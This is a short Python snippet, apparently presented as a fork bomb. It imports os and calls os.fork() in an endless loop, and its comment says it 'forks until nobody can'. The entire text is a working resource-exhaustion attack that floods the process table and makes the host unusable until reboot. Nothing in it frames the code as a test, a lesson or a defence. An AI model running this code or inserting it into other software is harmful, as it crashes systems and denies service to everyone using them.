# forks until nobody can
    import os

    while True:
        os.fork()
